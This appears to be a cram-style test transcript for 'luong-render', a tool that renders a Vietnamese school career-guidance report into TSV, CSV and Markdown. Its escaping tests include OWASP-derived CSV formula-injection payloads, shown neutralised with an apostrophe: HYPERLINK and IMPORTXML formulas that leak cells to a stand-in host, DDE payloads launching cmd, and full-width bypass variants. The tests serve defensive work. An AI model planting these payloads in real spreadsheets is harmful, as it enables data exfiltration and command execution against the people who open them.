# -f tsv: one table of every level, the level in a first column; labels
# and numbers in the locale's form, fields escaped as in the stream.
$ luong-render -f tsv data/report.tsv
> Cấp học	STT	Huyện, thị xã, thành phố	Chương trình GDHN: Thực hiện	Chương trình GDHN: Chỉ tiêu	Chương trình GDHN: Chênh lệch	Chương trình GDHN: Kết quả	GV tư vấn HN: Thực hiện	GV tư vấn HN: Chỉ tiêu	GV tư vấn HN: Chênh lệch	GV tư vấn HN: Kết quả	Học GDNN: Thực hiện	Học GDNN: Chỉ tiêu	Học GDNN: Chênh lệch	Học GDNN: Kết quả	Xếp hạng
> THCS	01	Thủ Thừa	100,00	100	0,00	Đạt	92,86	100	-7,14	Không đạt	27,92	20,00	+7,92	Đạt	1
> THCS	02	Tân An	100,00	100	0,00	Đạt	91,67	100	-8,33	Không đạt	36,25	35,09	+1,16	Đạt	2
> THCS	03	Bến Lức	100,00	100	0,00	Đạt	100,00	100	0,00	Đạt	32,97	32,01	+0,96	Đạt	3
> THCS	04	Châu Thành	95,24	100	-4,76	Không đạt	100,00	100	0,00	Đạt	32,80	32,98	-0,18	Không đạt	4
> THCS		Tổng cộng	98,46	100	-1,54	Không đạt	96,92	100	-3,08	Không đạt	30,32	27,92	+2,40	Đạt	
> THPT	01	Tân An	100,00	100	0,00	Đạt	100,00	100	0,00	Đạt	44,17	44,17	0,00	Đạt	1
> THPT	02	Tân Thạnh	100,00	100	0,00	Đạt	66,67	100	-33,33	Không đạt	65,12	65,12	0,00	Đạt	1
> THPT	03	Cần Giuộc	80,00	100	-20,00	Không đạt	100,00	100	0,00	Đạt	29,00	29,00	0,00	Đạt	1
> THPT	04	Đức Hòa	100,00	100	0,00	Đạt	100,00	100	0,00	Đạt	40,00	43,60	-3,60	Không đạt	4
> THPT		Tổng cộng	94,74	100	-5,26	Không đạt	94,74	100	-5,26	Không đạt	41,17	40,22	+0,95	Đạt	
! luong-render: 10 rows read, 2 tables (report layout) written as tsv

# -f csv: RFC 4180 with CRLF line ends; a cell with a comma is quoted.
$ luong-render -f csv data/report.tsv | tr -d '\r'
> Cấp học,STT,"Huyện, thị xã, thành phố",Chương trình GDHN: Thực hiện,Chương trình GDHN: Chỉ tiêu,Chương trình GDHN: Chênh lệch,Chương trình GDHN: Kết quả,GV tư vấn HN: Thực hiện,GV tư vấn HN: Chỉ tiêu,GV tư vấn HN: Chênh lệch,GV tư vấn HN: Kết quả,Học GDNN: Thực hiện,Học GDNN: Chỉ tiêu,Học GDNN: Chênh lệch,Học GDNN: Kết quả,Xếp hạng
> THCS,01,Thủ Thừa,"100,00",100,"0,00",Đạt,"92,86",100,"-7,14",Không đạt,"27,92","20,00","+7,92",Đạt,1
> THCS,02,Tân An,"100,00",100,"0,00",Đạt,"91,67",100,"-8,33",Không đạt,"36,25","35,09","+1,16",Đạt,2
> THCS,03,Bến Lức,"100,00",100,"0,00",Đạt,"100,00",100,"0,00",Đạt,"32,97","32,01","+0,96",Đạt,3
> THCS,04,Châu Thành,"95,24",100,"-4,76",Không đạt,"100,00",100,"0,00",Đạt,"32,80","32,98","-0,18",Không đạt,4
> THCS,,Tổng cộng,"98,46",100,"-1,54",Không đạt,"96,92",100,"-3,08",Không đạt,"30,32","27,92","+2,40",Đạt,
> THPT,01,Tân An,"100,00",100,"0,00",Đạt,"100,00",100,"0,00",Đạt,"44,17","44,17","0,00",Đạt,1
> THPT,02,Tân Thạnh,"100,00",100,"0,00",Đạt,"66,67",100,"-33,33",Không đạt,"65,12","65,12","0,00",Đạt,1
> THPT,03,Cần Giuộc,"80,00",100,"-20,00",Không đạt,"100,00",100,"0,00",Đạt,"29,00","29,00","0,00",Đạt,1
> THPT,04,Đức Hòa,"100,00",100,"0,00",Đạt,"100,00",100,"0,00",Đạt,"40,00","43,60","-3,60",Không đạt,4
> THPT,,Tổng cộng,"94,74",100,"-5,26",Không đạt,"94,74",100,"-5,26",Không đạt,"41,17","40,22","+0,95",Đạt,
! luong-render: 10 rows read, 2 tables (report layout) written as csv

# Every line ends in CRLF: 11 lines, 11 CRs.
$ luong-render -f csv data/report.tsv | tr -cd '\r\n' | od -An -c | tr -d ' \n' | sed 's/\\r\\n/x/g'; echo
> xxxxxxxxxxx
! luong-render: 10 rows read, 2 tables (report layout) written as csv

# CSV injection: a text cell beginning with = + - @ (or TAB) gets a "'"
# so a spreadsheet shows it and never evaluates it; numbers keep their
# sign ("-7,0"; "-0.52" in a column of text is still a number and is left
# as written); "+1" is not a stream number, so it is text.
$ luong-render -f csv data/inject.tsv | tr -d '\r'
> district,note,value,gap
> "'=HYPERLINK(""http://evil.example/"",""bấm"")",'+84 912 345 678,"1.234,5",-0.52
> '@SUM(A1:A9),'-2+3,"-7,0",'+1
> Tân An,"""quoted"", with comma",,-1.5
> '	leading tab,"line
> break","0,0",0.25
> '-,'=,"12,0",'-
! luong-render: 5 rows read, 1 table (plain layout) written as csv

# The same in TSV.
$ luong-render -f tsv data/inject.tsv
> district	note	value	gap
> '=HYPERLINK("http://evil.example/","bấm")	'+84 912 345 678	1.234,5	-0.52
> '@SUM(A1:A9)	'-2+3	-7,0	'+1
> Tân An	"quoted", with comma		-1.5
> '\tleading tab	line\nbreak	0,0	0.25
> '-	'=	12,0	'-
! luong-render: 5 rows read, 1 table (plain layout) written as tsv

# English numbers in CSV: 1,234.5 is quoted.
$ luong-render -f csv --locale en data/inject.tsv | tr -d '\r' | head -2
> district,note,value,gap
> "'=HYPERLINK(""http://evil.example/"",""bấm"")",'+84 912 345 678,"1,234.5",-0.52
! luong-render: 5 rows read, 1 table (plain layout) written as csv

# -f md: a GitHub table per level; numbers right-aligned (---:), the
# total row bold, the indicators listed below.
$ luong-render -f md --title 'Báo cáo | 2023' data/report.tsv
> # Báo cáo \| 2023
>
> ## Cấp trung học cơ sở
>
> | STT | Huyện, thị xã, thành phố | Chương trình GDHN: Thực hiện | Chương trình GDHN: Chỉ tiêu | Chương trình GDHN: Chênh lệch | Chương trình GDHN: Kết quả | GV tư vấn HN: Thực hiện | GV tư vấn HN: Chỉ tiêu | GV tư vấn HN: Chênh lệch | GV tư vấn HN: Kết quả | Học GDNN: Thực hiện | Học GDNN: Chỉ tiêu | Học GDNN: Chênh lệch | Học GDNN: Kết quả | Xếp hạng |
> | ---: | :--- | ---: | ---: | ---: | :--- | ---: | ---: | ---: | :--- | ---: | ---: | ---: | :--- | ---: |
> | 01 | Thủ Thừa | 100,00 | 100 | 0,00 | Đạt | 92,86 | 100 | -7,14 | Không đạt | 27,92 | 20,00 | +7,92 | Đạt | 1 |
> | 02 | Tân An | 100,00 | 100 | 0,00 | Đạt | 91,67 | 100 | -8,33 | Không đạt | 36,25 | 35,09 | +1,16 | Đạt | 2 |
> | 03 | Bến Lức | 100,00 | 100 | 0,00 | Đạt | 100,00 | 100 | 0,00 | Đạt | 32,97 | 32,01 | +0,96 | Đạt | 3 |
> | 04 | Châu Thành | 95,24 | 100 | -4,76 | Không đạt | 100,00 | 100 | 0,00 | Đạt | 32,80 | 32,98 | -0,18 | Không đạt | 4 |
> |  | **Tổng cộng** | **98,46** | **100** | **-1,54** | **Không đạt** | **96,92** | **100** | **-3,08** | **Không đạt** | **30,32** | **27,92** | **+2,40** | **Đạt** |  |
>
> Các chỉ tiêu:
>
> - Chương trình GDHN: Tỷ lệ % trường học có chương trình giáo dục hướng nghiệp gắn với hoạt động sản xuất, kinh doanh, dịch vụ của địa phương
> - GV tư vấn HN: Tỷ lệ % trường học có giáo viên kiêm nhiệm làm nhiệm vụ tư vấn hướng nghiệp đáp ứng yêu cầu về chuyên môn, nghiệp vụ
> - Học GDNN: Tỷ lệ % học sinh tốt nghiệp trung học cơ sở tiếp tục học tập tại các cơ sở giáo dục nghề nghiệp đào tạo trình độ sơ cấp, trung cấp
>
> ## Cấp trung học phổ thông
>
> | STT | Huyện, thị xã, thành phố | Chương trình GDHN: Thực hiện | Chương trình GDHN: Chỉ tiêu | Chương trình GDHN: Chênh lệch | Chương trình GDHN: Kết quả | GV tư vấn HN: Thực hiện | GV tư vấn HN: Chỉ tiêu | GV tư vấn HN: Chênh lệch | GV tư vấn HN: Kết quả | Học GDNN: Thực hiện | Học GDNN: Chỉ tiêu | Học GDNN: Chênh lệch | Học GDNN: Kết quả | Xếp hạng |
> | ---: | :--- | ---: | ---: | ---: | :--- | ---: | ---: | ---: | :--- | ---: | ---: | ---: | :--- | ---: |
> | 01 | Tân An | 100,00 | 100 | 0,00 | Đạt | 100,00 | 100 | 0,00 | Đạt | 44,17 | 44,17 | 0,00 | Đạt | 1 |
> | 02 | Tân Thạnh | 100,00 | 100 | 0,00 | Đạt | 66,67 | 100 | -33,33 | Không đạt | 65,12 | 65,12 | 0,00 | Đạt | 1 |
> | 03 | Cần Giuộc | 80,00 | 100 | -20,00 | Không đạt | 100,00 | 100 | 0,00 | Đạt | 29,00 | 29,00 | 0,00 | Đạt | 1 |
> | 04 | Đức Hòa | 100,00 | 100 | 0,00 | Đạt | 100,00 | 100 | 0,00 | Đạt | 40,00 | 43,60 | -3,60 | Không đạt | 4 |
> |  | **Tổng cộng** | **94,74** | **100** | **-5,26** | **Không đạt** | **94,74** | **100** | **-5,26** | **Không đạt** | **41,17** | **40,22** | **+0,95** | **Đạt** |  |
>
> Các chỉ tiêu:
>
> - Chương trình GDHN: Tỷ lệ % trường học có chương trình giáo dục hướng nghiệp gắn với hoạt động sản xuất, kinh doanh, dịch vụ của địa phương
> - GV tư vấn HN: Tỷ lệ % trường học có giáo viên kiêm nhiệm làm nhiệm vụ tư vấn hướng nghiệp đáp ứng yêu cầu về chuyên môn, nghiệp vụ
> - Học GDNN: Tỷ lệ % học sinh tốt nghiệp trung học phổ thông tiếp tục học tập tại các cơ sở giáo dục nghề nghiệp đào tạo trình độ cao đẳng
! luong-render: 10 rows read, 2 tables (report layout) written as md

# Markdown punctuation in a cell is escaped: | * _ ` < > & [ ] and more.
$ printf 'name\tn\na|b *c* _d_ `e` <f> & [g](h) ~i~ #j\\k\t1\n' | luong-render -f md
> | name | n |
> | :--- | ---: |
> | a\|b \*c\* \_d\_ \`e\` \<f\> \& \[g\](h) \~i\~ \#j\\k | 1 |
! luong-render: 1 row read, 1 table (plain layout) written as md

# OWASP's list of formula-injection payloads (data/owasp-injection.tsv;
# OWASP's "CSV Injection" page, https://owasp.org/www-community/attacks/CSV_Injection,
# and the articles it cites), and what it misses: blanks before the
# formula, full-width and small = + - @, a ";" that starts a cell for a
# reader that splits on ";" (a "'" after it; the field quoted).  Each
# formula gets its "'"; harmless text is left as it is.  (In the CSV, a
# CR inside a field shows as %, a TAB as ~.)
$ luong-render -f csv data/owasp-injection.tsv | sed 's/\r$//' | tr '\r\t' '%~'
> payload,source
> '=1+1,OWASP: Equals to (=)
> '+1+1,OWASP: Plus (+)
> '-1+1,OWASP: Minus (-)
> '@SUM(1+1),OWASP: At (@)
> '~=1+1,OWASP: Tab (0x09)
> "'%=1+1",OWASP: Carriage return (0x0D)
> "'
> =1+1",OWASP: Line feed (0x0A)
> "'=1+2"";'=1+2","OWASP: example 1, a ; after a quote"
> "'=1+2'"" ;,=1+2","OWASP: example 2, ; and , after quotes"
> "'=HYPERLINK(""http://evil.example/?leak=""&A1&A2,""Error: please click for further information"")",Comma Separated Vulnerabilities: exfiltration
> '=cmd|' /C calc'!A0,Comma Separated Vulnerabilities: DDE
> '@SUM(1+1)*cmd|' /C calc'!A0,Comma Separated Vulnerabilities: DDE after @
> '+cmd|' /C calc'!A0,Comma Separated Vulnerabilities: DDE after +
> '-2+3+cmd|' /C calc'!A0,Comma Separated Vulnerabilities: DDE after -
> "'=DDE(""cmd"";""/C calc"";""__DdeLink_60_870516294"")",Comma Separated Vulnerabilities: DDE()
> "'=IMPORTXML(CONCAT(""http://evil.example/?v="",CONCATENATE(A2:E2)),""//a"")",Stealing Google Docs via CSV Injection
> "' =1+1",a space before =
> "'  ~ =1+1",spaces and a TAB before =
> "'% =1+1",a CR and a space before =
> ' =1+1,a no-break space before =
> '＝1+1,full-width =
> '＋1+1,full-width +
> '－1+1,full-width -
> '＠SUM(1+1),full-width @
> "' ＝1+1",a space before full-width =
> '　＝1+1,an ideographic space before full-width =
> '﹦1+1,small =
> '﹫SUM(1+1),small @
> "Tân An;'=1+1","a cell after ;"
> "Tân An;' @SUM(1+1)","a cell after ; and a space"
> "x;'＝1+1","full-width = after ;"
> "x;'~=1+1","a TAB after ;"
> "a,=1+1","a cell after , (quoted)"
> a=b,harmless: = inside
> 1-2,harmless: - inside
> lien.he@truong.edu.vn,harmless: @ inside
> "Tân An; Bến Lức","harmless: ; before text"
! luong-render: 37 rows read, 1 table (plain layout) written as csv

$ luong-render -f tsv data/owasp-injection.tsv
> payload	source
> '=1+1	OWASP: Equals to (=)
> '+1+1	OWASP: Plus (+)
> '-1+1	OWASP: Minus (-)
> '@SUM(1+1)	OWASP: At (@)
> '\t=1+1	OWASP: Tab (0x09)
> '\r=1+1	OWASP: Carriage return (0x0D)
> '\n=1+1	OWASP: Line feed (0x0A)
> '=1+2";'=1+2	OWASP: example 1, a ; after a quote
> '=1+2'" ;,=1+2	OWASP: example 2, ; and , after quotes
> '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")	Comma Separated Vulnerabilities: exfiltration
> '=cmd|' /C calc'!A0	Comma Separated Vulnerabilities: DDE
> '@SUM(1+1)*cmd|' /C calc'!A0	Comma Separated Vulnerabilities: DDE after @
> '+cmd|' /C calc'!A0	Comma Separated Vulnerabilities: DDE after +
> '-2+3+cmd|' /C calc'!A0	Comma Separated Vulnerabilities: DDE after -
> '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")	Comma Separated Vulnerabilities: DDE()
> '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")	Stealing Google Docs via CSV Injection
> ' =1+1	a space before =
> '  \t =1+1	spaces and a TAB before =
> '\r =1+1	a CR and a space before =
> ' =1+1	a no-break space before =
> '＝1+1	full-width =
> '＋1+1	full-width +
> '－1+1	full-width -
> '＠SUM(1+1)	full-width @
> ' ＝1+1	a space before full-width =
> '　＝1+1	an ideographic space before full-width =
> '﹦1+1	small =
> '﹫SUM(1+1)	small @
> Tân An;'=1+1	a cell after ;
> Tân An;' @SUM(1+1)	a cell after ; and a space
> x;'＝1+1	full-width = after ;
> x;'\t=1+1	a TAB after ;
> a,=1+1	a cell after , (quoted)
> a=b	harmless: = inside
> 1-2	harmless: - inside
> lien.he@truong.edu.vn	harmless: @ inside
> Tân An; Bến Lức	harmless: ; before text
! luong-render: 37 rows read, 1 table (plain layout) written as tsv

# 20,000 columns, in every text format: the report's arrays grow
# geometrically (one element at a time, this took 6 s under ASan).
$ awk 'BEGIN { for (i = 1; i <= 20000; i++) printf "%sc%d", (i > 1 ? "\t" : ""), i; print ""; for (i = 1; i <= 20000; i++) printf "%s%d", (i > 1 ? "\t" : ""), i; print "" }' >"$T/wide.tsv"
$ for f in table tsv csv md html; do luong-render -f $f "$T/wide.tsv" | wc -l; done
$ luong-render -f tsv "$T/wide.tsv" | tail -1 | cut -f 1,20000
> 3
> 2
> 2
> 3
> 46
> 1	20.000
! luong-render: 1 row read, 1 table (plain layout) written as table
! luong-render: 1 row read, 1 table (plain layout) written as tsv
! luong-render: 1 row read, 1 table (plain layout) written as csv
! luong-render: 1 row read, 1 table (plain layout) written as md
! luong-render: 1 row read, 1 table (plain layout) written as html
! luong-render: 1 row read, 1 table (plain layout) written as tsv
